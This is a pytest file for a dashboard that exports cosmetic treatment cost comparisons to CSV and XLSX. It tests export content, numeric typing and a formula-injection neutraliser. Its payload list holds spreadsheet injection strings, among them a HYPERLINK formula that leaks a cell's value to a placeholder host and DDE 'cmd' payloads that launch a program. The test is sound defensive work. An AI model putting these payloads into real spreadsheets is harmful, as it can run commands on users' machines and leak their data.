"""Exports: exact content, formula safety, numbers kept as numbers."""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from dashboard.comparison import build_catalog, compare
from dashboard.export import EXPORT_COLUMNS, to_csv_bytes, to_xlsx_bytes
from dashboard.filters import Filters
from dashboard.formula import neutralise, starts_with_trigger

TODAY = dt.date(2026, 11, 25)


def parse_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def table_block(rows: list[list[str]]) -> list[list[str]]:
    start = next(i for i, r in enumerate(rows) if r and r[0] == "Option")
    end = next(i for i in range(start, len(rows)) if not rows[i])
    return rows[start:end]


def test_csv_has_settings_table_and_sources(small_dataset):
    comparison = compare(build_catalog(small_dataset), Filters(market="US", horizon=5, budget=5000))
    rows = parse_csv(to_csv_bytes(comparison, small_dataset, TODAY))
    assert rows[0] == ["Comparison", "Cosmetic treatment costs over time (not medical advice)"]
    assert rows[1] == ["Filters", "market US; horizon 5 years; budget 5,000 USD"]
    assert rows[2] == ["Exported", "2026-11-25"]
    assert rows[3] == ["Price years in the data", "2024-2024"]
    assert rows[5] == ["Prices in", "as published"]  # no index given to build_catalog
    assert rows[7] == ["Options over budget not shown", "1"]
    table = table_block(rows)
    assert table[0] == [h for _, h in EXPORT_COLUMNS]
    by_name = {r[0]: dict(zip(table[0], r, strict=True)) for r in table[1:]}
    assert set(by_name) == {"Hyaluronic-acid filler", "Botulinum toxin", "Microneedling"}
    filler = by_name["Hyaluronic-acid filler"]
    assert (filler["Total cost low"], filler["Total cost typical"], filler["Total cost high"]) == ("2000", "", "18000")
    assert filler["Total cost reads"] == "$2,000–$18,000"
    needling = by_name["Microneedling"]
    assert (needling["Total cost low"], needling["Total cost high"], needling["Total cost reads"]) == ("600", "", "at least $600")
    assert "how often it must be repeated is not published" in needling["Budget fit reason"]
    assert "Whether and how often it must be repeated is not published" in needling["Missing inputs"]
    assert filler["Budget fit"] == "may fit" and filler["Price sources"] == "clinic-x"
    assert by_name["Botulinum toxin"]["Total cost low"] == ""  # unknown is empty, never 0
    sources_at = rows.index(["Sources"])
    assert rows[sources_at + 1] == ["id", "publisher", "title", "url", "year", "status"]
    assert {r[0] for r in rows[sources_at + 2:]} == {"clinic-x", "nhs-botox", "nhs-fillers"}


def test_xlsx_has_numbers_as_numbers_and_a_sources_sheet(small_dataset):
    comparison = compare(build_catalog(small_dataset), Filters(market="US", horizon=5))
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(comparison, small_dataset, TODAY)))
    assert book.sheetnames == ["Comparison", "Sources"]
    sheet = book["Comparison"]
    header_row = next(r for r in sheet.iter_rows() if r[0].value == "Option")
    headers = [c.value for c in header_row]
    records = [dict(zip(headers, [c.value for c in r], strict=True)) for r in sheet.iter_rows(min_row=header_row[0].row + 1)]
    record = next(r for r in records if r["Option"] == "Hyaluronic-acid filler")
    assert record["Total cost high"] == 18000 and isinstance(record["Total cost high"], (int, float))
    assert book["Sources"]["A1"].value == "id"


PAYLOADS = ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)",
            " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "{=1+1}", "==== Sale ====",
            '=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise(payload):
    out = neutralise(payload)
    assert out == "'" + payload and not starts_with_trigger(out)
    assert neutralise(out) == out


@pytest.mark.parametrize("text", ["Botox", "'=1+1", "1-2 sessions", "", "a=b"])
def test_plain_text_is_unchanged(text):
    assert neutralise(text) == text
